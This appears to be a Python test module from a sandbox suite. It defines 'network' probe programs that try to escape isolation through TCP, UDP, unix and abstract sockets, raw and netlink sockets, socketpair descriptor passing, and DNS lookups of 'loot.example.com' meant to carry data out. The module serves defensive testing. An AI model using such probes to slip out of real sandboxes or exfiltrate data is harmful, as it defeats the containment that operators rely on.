"""Reaching anybody: the listeners of the bait are real and would answer."""

from sandbox.hostile.judges import attempts
from sandbox.hostile.prelude import CALLS, TRIES
from sandbox.hostile.record import Hostile

GROUP = "network"

PROGRAMS = (
    Hostile(
        "tcp",
        GROUP,
        "connect to a TCP listener of the caller and to the internet",
        f"""import socket
{TRIES}
def f(bait):
    return tries({{
        "socket to the caller": lambda: socket.create_connection(("127.0.0.1", bait["tcp"]), 0.2),
        "socket to the internet": lambda: socket.create_connection(("1.1.1.1", 53), 0.2),
        "socket of IPv6": lambda: socket.create_connection(("::1", bait["tcp"]), 0.2),
        "socket to listen": lambda: socket.create_server(("127.0.0.1", 0)),
    }})
""",
        attempts,
    ),
    Hostile(
        "udp",
        GROUP,
        "send a datagram to the caller",
        f"""import socket
{TRIES}
def f(bait):
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            return sender.sendto(b"loot", ("127.0.0.1", bait["udp"]))
    return tries({{"socket for datagrams": send}})
""",
        attempts,
    ),
    Hostile(
        "unix-socket",
        GROUP,
        "connect to unix sockets of the caller, one with a path and one without",
        f"""import socket
{TRIES}
def f(bait):
    def connect(address):
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(address)
            return client.send(b"loot")
    return tries({{
        "socket with a path": lambda: connect(bait["unix"]),
        "socket without a path": lambda: connect("\\0" + bait["abstract"]),
    }})
""",
        attempts,
    ),
    Hostile(
        "dns",
        GROUP,
        "carry data out in the name of a DNS request",
        f"""import socket
{TRIES}
def f(bait):
    return tries({{
        "getaddrinfo": lambda: socket.getaddrinfo("loot.example.com", 80),
        "gethostbyname": lambda: socket.gethostbyname("loot.example.com"),
    }})
""",
        attempts,
    ),
    Hostile(
        "raw-sockets",
        GROUP,
        "open netlink, packet, raw IP, vsock, bluetooth and kernel crypto sockets",
        f"""{CALLS}
def f(bait):
    families = {{"netlink": (16, 3, 0), "packet": (17, 3, 0), "raw IP": (2, 3, 1), "vsock": (40, 1, 0),
                "bluetooth": (31, 3, 1), "crypto": (38, 5, 0), "xdp": (44, 3, 0)}}
    return calls(**{{f"socket of {{name}}": (41, *given) for name, given in families.items()}})
""",
        attempts,
    ),
    Hostile(
        "socketpair",
        GROUP,
        "get a socket of another family by socketpair, and hand descriptors over by sendmsg",
        f"""import socket
{CALLS}
def f(bait):
    pair = (ctypes.c_int * 2)()
    left, right = socket.socketpair()
    def reach():
        return left.sendto(b"loot", "\\0" + bait["abstract"])
    datagrams, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return calls(**{{"socketpair of TIPC": (53, 30, 1, 0, pair), "socketpair of IPv4": (53, 2, 1, 0, pair)}}) | tries({{
        "sendmsg with a descriptor": lambda: socket.send_fds(left, [b"x"], [1]),
        "connect of half a pair": lambda: left.connect("\\0" + bait["abstract"]),
        "sendto of half a pair": reach,
        "connect of a datagram half": lambda: datagrams.connect("\\0" + bait["abstract"]),
        "sendto of a datagram half": lambda: datagrams.sendto(b"loot", bait["datagram"]),
    }})
""",
        attempts,
    ),
)
"""All of this group."""
